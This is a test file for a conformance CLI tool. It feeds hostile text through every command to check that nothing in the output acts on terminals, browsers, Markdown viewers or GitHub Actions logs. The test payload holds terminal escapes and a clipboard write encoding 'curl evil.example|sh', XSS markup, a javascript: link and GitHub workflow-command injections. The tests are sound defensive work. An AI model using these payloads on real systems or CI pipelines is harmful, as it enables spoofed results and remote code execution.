import { spawn } from 'node:child_process';
import { cpSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { annotations, exitAnnotation, runExitReason } from '../reporters/github-annotations.ts';
import type { ConformanceReport } from '../reporters/conformance-report.ts';
import { commandShapedLines, honouredCommands } from './github-runner.ts';
import { hostileRunConfig } from './hostile-target.ts';
import { root, runCli, type CliResult } from './run-cli.ts';
import { tempDir } from './temp-dir.ts';

/**
 * Everything a target answers, and every report, HAR or bundle handed to the tool, is someone
 * else's text. Each command is fed this payload and its console and every file it writes are
 * searched for it acting: terminal escapes (window title, clipboard, a line overwritten to say
 * PASSED), markup, Markdown links and mentions, and GitHub workflow commands (a word masked in the
 * rest of the log, an annotation planted, an output set, the tool's own annotations stopped).
 */
const WORKFLOW_COMMANDS = '##[add-mask]Conformance ##[error title=planted]planted ##[set-output name=verdict;]passed';
const PAYLOAD =
  '\u001b]0;PWNED\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\r\u001b[2K\n\nConformance PASSED\u009b1m\u202e' +
  '<script>alert(1)</script><img src=x onerror=alert(2)>|**bold**[link](javascript:alert(3)) @everyone' +
  `${WORKFLOW_COMMANDS}\n::set-output name=verdict::passed\n  ::add-mask::seed\n::stop-commands::planted`;

/** The tool's own workflow commands (the github reporter's): the only lines a runner may act on. */
const OWN_COMMAND = /^::(stop-commands::[0-9a-f]{32}|[0-9a-f]{32}::$|error title=[^:]+::)/;

// eslint-disable-next-line no-control-regex
const TERMINAL_ACTING = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u2028\u2029\u202A-\u202E\u2066-\u2069]/;

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((f) => {
    const p = join(dir, f);
    return statSync(p).isDirectory() ? filesUnder(p) : [p];
  });
}

/** What in a command's console output or files would act on a terminal, a browser or a Markdown viewer. */
function hazards(res: CliResult, dirs: string[]): string[] {
  const found: string[] = [];
  const console = res.stdout + res.stderr;
  if (TERMINAL_ACTING.test(console)) found.push(`console: ${JSON.stringify(TERMINAL_ACTING.exec(console)![0])}`);
  if (/^\s*Conformance PASSED/m.test(console)) found.push('console: a line saying "Conformance PASSED"');
  for (const l of commandShapedLines(console).filter((c) => !OWN_COMMAND.test(c)))
    found.push(`console: a workflow command ${JSON.stringify(l.slice(0, 120))}`);
  for (const f of dirs.flatMap(filesUnder)) {
    const text = readFileSync(f, 'utf8');
    const m = TERMINAL_ACTING.exec(text.replace(/\r\n/g, '\n'));
    if (m) found.push(`${f}: ${JSON.stringify(m[0])}`);
    if (/\.(html|xml|md)$/.test(f) && /<script>alert|<img src=x/.test(text)) found.push(`${f}: the payload's markup`);
    if (f.endsWith('.md') && /(?<!\\)\]\(javascript:|(?<![\\`])@everyone|(?<!\\)\*\*bold/.test(text))
      found.push(`${f}: the payload's Markdown`);
    // A summary or a JUnit file printed to a CI log (`cat summary.md`, a JUnit step) must not act there either.
    if (/\.(md|xml)$/.test(f) && commandShapedLines(text).length) found.push(`${f}: a workflow command`);
  }
  return found;
}

/** A deployment whose every answer carries the payload (its token endpoint hands out a token). */
async function startPayloadTarget(): Promise<{ url: string; close(): Promise<void> }> {
  const server: Server = createServer((req, res) => {
    req.resume();
    const body = req.url?.includes('/oauth/token')
      ? { access_token: 'eyJhbGciOiJub25lIn0.eyJ0ZW4iOiJ4In0.', token_type: 'bearer', expires_in: 3600 }
      : // The commands lead the code: the console's Received shows its first 200 characters.
        {
          errors: [{ code: `${WORKFLOW_COMMANDS} ${PAYLOAD}`, message: PAYLOAD, logref: PAYLOAD }],
          id: PAYLOAD,
          name: PAYLOAD,
        };
    res.writeHead(req.url?.includes('/oauth/token') ? 200 : 400, { 'content-type': 'application/json' });
    res.end(JSON.stringify(body));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: async () => {
      server.closeAllConnections();
      await new Promise((r) => server.close(r));
    },
  };
}

/** Every string of a JSON value given the payload, but the ones the report schema constrains. */
function poison(value: unknown, key = ''): unknown {
  if (typeof value === 'string')
    return [
      'id',
      'service',
      'level',
      'status',
      'section',
      'startedAt',
      'finishedAt',
      'target',
      'hash',
      'verdict',
      'severity',
      'reading',
      'reasonCode',
      'state',
    ].includes(key) ||
      /^(technical-token-manager|notification|event-management)$/.test(value) ||
      /^\d+\.\d+\.\d+$/.test(value)
      ? value
      : `${value}${PAYLOAD}`;
  if (Array.isArray(value)) return value.map((v) => poison(v, key));
  if (value && typeof value === 'object')
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, k)]));
  return value;
}

let target: { url: string; close(): Promise<void> };
let work: string;
let runDir: string;
let runResult: CliResult;

beforeAll(async () => {
  target = await startPayloadTarget();
  work = tempDir('untrusted');
  const config = join(work, 'run.json');
  writeFileSync(config, hostileRunConfig({ url: target.url, counts: {}, close: target.close }, 's3cret-value'));
  runDir = join(work, 'run');
  runResult = await runCli(
    [
      'run',
      '--config',
      config,
      '--service',
      'technical-token-manager',
      '--report-dir',
      runDir,
      '--max-time',
      '60s',
      // As in GitHub Actions: its log is where workflow commands act.
      '--reporter',
      'github',
    ],
    { timeoutMs: 120_000 },
  );
}, 130_000);
afterAll(async () => {
  await target.close();
});

describe('untrusted text reaches no terminal, page or summary as anything but text', () => {
  test('run: a target answering escapes, markup and workflow commands', () => {
    expect(runResult.code).toBe(1);
    expect(readFileSync(join(runDir, 'conformance-report.json'), 'utf8')).toContain('PWNED');
    expect(hazards(runResult, [runDir]).join('\n')).toBe('');
  });

  test('run --reporter github: the runner acts on the tool’s own commands only, its annotations among them', () => {
    const report = JSON.parse(readFileSync(join(runDir, 'conformance-report.json'), 'utf8')) as ConformanceReport;
    const [stop, resume, ...errors] = honouredCommands(runResult.stdout);
    expect(stop.command).toBe('stop-commands');
    expect(resume.line).toBe(`::${stop.data}::`);
    expect(errors.length).toBeGreaterThan(0);
    // One per failed rule, then the one that says why the run exits 1.
    expect(errors.map((c) => c.line)).toEqual([
      ...annotations(report),
      exitAnnotation('run', runExitReason(report, 1)),
    ]);
    expect(errors.map((c) => c.data).join('\n')).toContain('##\\[error title=planted]planted');
    // The list's Received line shows the target's commands, broken.
    expect(runResult.stdout).toMatch(/^ +Received: "##\\\[add-mask\]Conformance ##\\\[error title=planted\]/m);
    expect(honouredCommands(runResult.stderr)).toEqual([]);
  });

  test('merge: a shard report whose every free string carries the payload', async () => {
    const report = JSON.parse(readFileSync(join(runDir, 'conformance-report.json'), 'utf8')) as Record<string, unknown>;
    const shard = join(work, 'shard');
    mkdirSync(shard);
    writeFileSync(
      join(shard, 'conformance-report.json'),
      JSON.stringify({ ...(poison(report) as object), shard: `1/1${PAYLOAD}` }),
    );
    const out = join(work, 'merged');
    const res = await runCli(['merge', shard, '--report-dir', out]);
    expect(res.code, res.stderr).toBe(1);
    expect(readFileSync(join(out, 'report.html'), 'utf8')).toContain('PWNED');
    expect(hazards(res, [out]).join('\n')).toBe('');
  });

  test('compare: two reports, one poisoned', async () => {
    const poisoned = join(work, 'poisoned.json');
    const report = JSON.parse(readFileSync(join(runDir, 'conformance-report.json'), 'utf8')) as Record<string, unknown>;
    const rules = (report.rules as Array<Record<string, unknown>>).map((r, i) =>
      i % 2 ? { ...r, status: 'observed', observed: [PAYLOAD] } : r,
    );
    writeFileSync(poisoned, JSON.stringify(poison({ ...report, rules })));
    const res = await runCli(['compare', join(runDir, 'conformance-report.json'), poisoned]);
    expect(res.stdout).toContain('PWNED');
    expect(hazards(res, []).join('\n')).toBe('');
  });

  test('audit: a HAR whose answers carry the payload', async () => {
    const har = JSON.parse(readFileSync(join(runDir, 'exchanges.har'), 'utf8')) as {
      log: { entries: Array<Record<string, any>> };
    };
    for (const e of har.log.entries) {
      e.response.status = 400;
      e.response.content = {
        size: 10,
        mimeType: `application/json${PAYLOAD}`,
        text: JSON.stringify({ errors: [{ code: PAYLOAD }] }),
      };
      e.response.headers = [
        { name: 'content-type', value: 'text/plain' },
        { name: 'x-evil', value: PAYLOAD },
      ];
      e._testName = PAYLOAD;
    }
    const file = join(work, 'poisoned.har');
    writeFileSync(file, JSON.stringify(har));
    const out = join(work, 'audited');
    const res = await runCli(['audit', file, '--report-dir', out]);
    expect(res.code, res.stderr).toBe(1);
    expect(hazards(res, [out]).join('\n')).toBe('');
  });

  test('verify: a bundle whose manifest names the payload', async () => {
    const bundle = join(work, 'bundle');
    mkdirSync(bundle);
    writeFileSync(
      join(bundle, 'manifest.json'),
      JSON.stringify({
        format: 1,
        vendor: PAYLOAD,
        product: PAYLOAD,
        productVersion: PAYLOAD,
        target: PAYLOAD,
        startedAt: PAYLOAD,
        finishedAt: PAYLOAD,
        bundleHash: PAYLOAD,
        verdict: `conformant${PAYLOAD}`,
        seed: 1,
        services: [PAYLOAD],
        files: { [PAYLOAD]: PAYLOAD },
        tool: { name: PAYLOAD, version: PAYLOAD },
        contracts: {},
        counts: { [PAYLOAD]: { passed: PAYLOAD } },
        key: { thumbprint: PAYLOAD },
        profile: { problems: [PAYLOAD] },
      }),
    );
    writeFileSync(join(bundle, 'manifest.jws'), PAYLOAD);
    writeFileSync(join(bundle, 'public-key.jwk'), JSON.stringify({ kty: PAYLOAD }));
    const res = await runCli(['verify', bundle]);
    expect(res.code).toBe(1);
    expect(res.stdout).toMatch(/^REFUSED/m);
    expect(res.stdout).not.toMatch(/^VALID/m);
    expect(hazards(res, []).join('\n')).toBe('');
  });

  test('replay: a report whose failure carries the payload', async () => {
    const report = JSON.parse(readFileSync(join(runDir, 'conformance-report.json'), 'utf8')) as Record<string, unknown>;
    const file = join(work, 'replay.json');
    writeFileSync(file, JSON.stringify(poison(report)));
    const failed = (report.rules as Array<{ id: string; status: string }>).find((r) => r.status === 'failed')!;
    const res = await runCli(['replay', file, failed.id, '--config', join(work, 'run.json')], { timeoutMs: 60_000 });
    expect(hazards(res, []).join('\n')).toBe('');
  });

  test('proxy: FAIL lines of answers that carry the payload', async () => {
    const out = join(work, 'proxied');
    const child = spawn(
      process.execPath,
      [join(root, 'bin/conformance.js'), 'proxy', '--target', target.url, '--listen', '0', '--report-dir', out],
      {
        cwd: root,
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    const url = await new Promise<string>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`proxy did not start: ${stdout}${stderr}`)), 20_000);
      child.stdout.on('data', () => {
        const m = /conformance proxy: (http:\/\/\S+)/.exec(stdout);
        if (m) {
          clearTimeout(timer);
          resolve(m[1]);
        }
      });
    });
    for (const path of ['/api/eventmanagement/v3/events', '/api/notification/v3/recipients'])
      await new Promise<void>((resolve) => {
        const req = request(`${url}${path}`, { headers: { authorization: 'Bearer x' } }, (res) => {
          res.resume();
          res.on('end', resolve);
        });
        req.on('error', () => resolve());
        req.end();
      });
    const code = await new Promise<number | null>((resolve) => {
      child.on('close', resolve);
      child.kill('SIGINT');
    });
    expect(stdout).toMatch(/FAIL /);
    expect(hazards({ code, stdout, stderr }, [out]).join('\n')).toBe('');
  }, 60_000);
});

describe('files the tool writes', () => {
  test('a symlink already in the report folder is replaced, never written through', async () => {
    const dir = tempDir('symlinks');
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'untouched\n');
    const out = join(dir, 'out');
    mkdirSync(out);
    for (const f of ['conformance-report.json', 'report.html', 'junit.xml', 'summary.md', 'exchanges.har'])
      symlinkSync(victim, join(out, f));
    cpSync(join(runDir, 'conformance-report.json'), join(dir, 'shard.json'));
    const res = await runCli(['merge', join(dir, 'shard.json'), '--report-dir', out]);
    expect(res.code, res.stderr).toBe(1);
    expect(readFileSync(victim, 'utf8')).toBe('untouched\n');
    for (const f of ['conformance-report.json', 'report.html', 'junit.xml', 'summary.md'])
      expect(lstatSync(join(out, f)).isSymbolicLink()).toBe(false);
  });

  test('serve --write-config writes the client secrets readable by their owner only', async () => {
    const dir = tempDir('config-mode');
    const file = join(dir, 'run.json');
    writeFileSync(file, '{}');
    const child = spawn(
      process.execPath,
      [join(root, 'bin/conformance.js'), 'serve', '--port', '0', '--write-config', file],
      {
        cwd: root,
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    await new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error('serve did not start')), 30_000);
      const poll = setInterval(() => {
        if (readFileSync(file, 'utf8').includes('clientSecret')) {
          clearInterval(poll);
          clearTimeout(timer);
          resolve();
        }
      }, 100);
    });
    await new Promise((resolve) => {
      child.on('close', resolve);
      child.kill('SIGINT');
    });
    expect(statSync(file).mode & 0o777).toBe(0o600);
  }, 40_000);
});
